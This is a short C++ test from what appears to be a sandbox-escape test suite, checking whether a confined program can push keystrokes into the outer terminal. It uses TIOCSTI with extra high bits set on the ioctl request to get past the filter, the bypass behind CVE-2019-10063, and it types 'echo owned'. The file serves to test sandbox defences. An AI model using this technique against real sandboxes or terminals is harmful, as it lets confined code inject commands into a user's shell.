// TIOCSTI with junk above the 32 bits that the kernel takes for the request (CVE-2019-10063 and its like), on a terminal
// that was opened anew.

#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "tests/escapes/escape.h"

namespace usher::escapes {
namespace USHER_ESCAPE_FILE {

int Attack(const World&) {
  const int terminal = open("/dev/tty", O_RDWR);
  for (const char byte : std::string("echo owned\n")) {
    if (ioctl(terminal, 0x100000000ul | TIOCSTI, &byte) < 0) return kCannotTry;
  }
  return 0;
}

bool Escaped(Outside& outside) {
  return Typed(outside).find("echo owned") != std::string::npos;
}

USHER_ESCAPE({.name = "i_terminal_type_ahead_junk", .row = "I: TIOCSTI, TIOCLINUX", .attack = &Attack,
              .escaped = &Escaped, .on_terminal = true});

}  // namespace USHER_ESCAPE_FILE
}  // namespace usher::escapes
